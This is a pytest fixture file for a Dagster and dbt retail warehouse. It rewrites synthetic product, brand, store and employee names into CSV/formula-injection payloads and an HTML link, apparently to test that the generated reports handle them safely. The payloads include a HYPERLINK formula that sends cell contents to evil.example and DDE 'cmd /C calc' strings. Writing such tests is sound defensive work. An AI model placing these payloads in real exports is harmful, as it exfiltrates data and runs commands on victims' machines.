"""A warehouse built from landing files whose names are hostile: generated exports with product,
brand, store and employee names rewritten into spreadsheet formulas and HTML links, through
bronze, silver, gold (real dbt) and the report assets (the ML group is not needed: the dashboard
says so instead of failing)."""

import csv
import json
from dataclasses import dataclass
from datetime import date, timedelta
from pathlib import Path

import pytest
from dagster import AssetSelection, DagsterInstance, ExecuteInProcessResult, materialize

from retail_assets.definitions import build_definitions
from retail_assets.synthetic.generate import generate
from retail_assets_tests.conftest import DataRoot

START, DAYS = date(2025, 12, 10), 3
FORMULA = '=HYPERLINK("https://evil.example/?"&B2,"Details")'
LINK = '<a href="https://evil.example">Refund</a>'
BRAND = "@SUM(1+1)*cmd|' /C calc'!A0"
STORE = "-2+3+cmd|' /C calc'!A0"
FIRST_NAME = "+1+1"


@dataclass
class HostileEnv:
    data_root: DataRoot
    reports_dir: Path
    run: ExecuteInProcessResult


def rewrite_master_data(landing: Path) -> None:
    """Every product named FORMULA or LINK (alternately, so both reach the top products), every
    brand BRAND, every store name STORE, every employee's first name FIRST_NAME."""
    for path in landing.glob("products_*.json"):
        products = json.loads(path.read_text())
        for i, p in enumerate(products):
            p["product_name"], p["brand"] = (FORMULA if i % 2 == 0 else LINK), BRAND
        path.write_text(json.dumps(products))
    for pattern, column, value in (("stores_*.csv", "store_name", STORE), ("employees_*.csv", "first_name", FIRST_NAME)):
        for path in landing.glob(pattern):
            with path.open(newline="") as f:
                rows = list(csv.DictReader(f))
            for row in rows:
                row[column] = value
            with path.open("w", newline="") as f:
                writer = csv.DictWriter(f, fieldnames=list(rows[0]))
                writer.writeheader()
                writer.writerows(rows)


@pytest.fixture(scope="package")
def hostile_env(tmp_path_factory) -> HostileEnv:
    root = tmp_path_factory.mktemp("hostile") / "data"
    data_root = DataRoot(root)
    generate(data_root.landing, start=START, days=DAYS, seed=5, lines_per_day=80)
    rewrite_master_data(data_root.landing)
    resources = data_root.resources()
    last = START + timedelta(days=DAYS - 1)
    run = materialize(
        list(build_definitions(resources).assets), instance=DagsterInstance.ephemeral(), resources=resources,
        selection=AssetSelection.groups("bronze", "silver", "gold", "reports"),
        tags={"dagster/asset_partition_range_start": START.isoformat(),
              "dagster/asset_partition_range_end": last.isoformat()})
    assert run.success
    return HostileEnv(data_root, root / "reports", run)
